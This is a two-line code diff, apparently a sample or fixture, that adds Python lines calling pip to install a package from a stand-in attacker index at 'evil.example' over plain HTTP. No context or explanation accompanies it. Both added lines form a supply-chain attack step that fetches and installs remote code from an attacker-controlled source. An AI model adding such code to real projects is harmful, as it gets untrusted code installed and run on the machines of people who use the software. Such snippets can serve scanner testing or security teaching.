@@ -1,0 +1,2 @@
+import pip
+pip.main(["install", "--index-url", "http://evil.example/simple", "pkg"])
